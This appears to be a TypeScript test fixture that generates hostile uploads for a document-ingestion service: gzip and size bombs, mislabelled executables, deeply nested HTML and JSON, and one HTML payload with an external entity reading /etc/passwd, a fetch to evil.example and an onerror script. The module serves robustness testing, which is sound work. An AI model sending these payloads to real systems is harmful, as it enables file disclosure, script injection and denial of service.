import { gzipSync } from 'node:zlib';
import { REPORT } from './forge-zip.ts';
import { HOSTILE_PDFS } from './pdfs.ts';
import { HOSTILE_ZIPS } from './zips.ts';

/** A file made to harm or to confuse, and the route it is sent to. */
export interface HostileFile {
  name: string;
  fileName: string;
  make: () => Uint8Array;
  route?: 'report' | 'ledger';
  headers?: Record<string, string>;
  /** Sent without its length, piece by piece. */
  chunked?: boolean;
  /** What is dangerous in it means nothing to the reader: it is read, without that. */
  read?: boolean;
}

const MB = 1024 * 1024;
const ole = (name: string): Buffer =>
  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1_024), Buffer.from(name, 'utf16le'), Buffer.alloc(512)]); // prettier-ignore
const page = (inside: string): Buffer => Buffer.from(`<!DOCTYPE html><html><body>${inside}</body></html>`);
const paragraphs = REPORT.split('\n').map((line) => `<p>${line}</p>`).join(''); // prettier-ignore

const HOSTILE_TEXTS: readonly HostileFile[] = [
  { name: '100 MB, length declared', fileName: '报告.docx', make: () => Buffer.alloc(100 * MB, 32) },
  { name: '100 MB, length not declared', fileName: '报告.docx', make: () => Buffer.alloc(100 * MB, 32), chunked: true },
  { name: '0.5 MB that the transfer unpacks to 500 MB', fileName: '报告.txt', make: () => gzipSync(Buffer.alloc(500 * MB)), headers: { 'content-encoding': 'gzip' } }, // prettier-ignore
  { name: 'nothing', fileName: '报告.docx', make: () => Buffer.alloc(0) },
  { name: '.doc', fileName: '报告.doc', make: () => ole('WordDocument') },
  { name: '.xls', fileName: '台账.xls', make: () => ole('Workbook'), route: 'ledger' },
  { name: '.et to the report', fileName: '报告.et', make: () => ole('Workbook') },
  { name: 'encrypted .docx', fileName: '报告.docx', make: () => ole('EncryptedPackage') },
  {
    name: '.rtf with an object',
    fileName: '报告.rtf',
    make: () => Buffer.from('{\\rtf1{\\object\\objupdate{\\*\\objdata 01}}}'),
  },
  { name: 'a program named .docx', fileName: '报告.docx', make: () => Buffer.from(`MZ\0\u0001${'\0'.repeat(500)}`) },
  { name: 'a picture named .pdf', fileName: '报告.pdf', make: () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]) },
  { name: '10 MB of one line', fileName: '报告.txt', make: () => Buffer.alloc(10 * MB - 1, 'a') },
  { name: 'quotes that never close, 900,000 characters', fileName: '报告.txt', make: () => Buffer.from('关于“'.repeat(300_000)) }, // prettier-ignore
  { name: '10 MB of broken characters', fileName: '报告.txt', make: () => Buffer.alloc(10 * MB - 1, 0xff) },
  { name: 'page: 1,000,000 nested tags', fileName: '报告.html', make: () => page('<div>'.repeat(1_000_000)) },
  { name: 'page: 1,000,000 tags side by side', fileName: '报告.html', make: () => page('<i></i>'.repeat(1_000_000)) },
  { name: 'page: 9 MB in one attribute', fileName: '报告.html', make: () => page(`<p a="${'x'.repeat(9 * MB)}">`) },
  { name: 'page: a table of 400,000 columns', fileName: '报告.html', make: () => page(`<table><tr>${'<td colspan=9999>甲'.repeat(300_000)}`) }, // prettier-ignore
  { name: 'page: scripts, frames and an external entity around a report', fileName: '报告.html', make: () => Buffer.from(`<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]><html><body><script>fetch('http://evil.example')</script><iframe src="file:///etc/passwd"></iframe><img src=x onerror=alert(1)>${paragraphs}&a;`), read: true }, // prettier-ignore
  { name: 'a web page named .docx', fileName: '报告.docx', make: () => page(paragraphs), read: true },
  { name: 'plain text named .pdf', fileName: '报告.pdf', make: () => Buffer.from(REPORT), read: true },
  { name: 'pasted: JSON 5,000,000 deep', fileName: '', make: () => Buffer.from('['.repeat(5_000_000)), headers: { 'content-type': 'application/json' } }, // prettier-ignore
];

export const HOSTILE_FILES: readonly HostileFile[] = [...HOSTILE_ZIPS, ...HOSTILE_PDFS, ...HOSTILE_TEXTS];
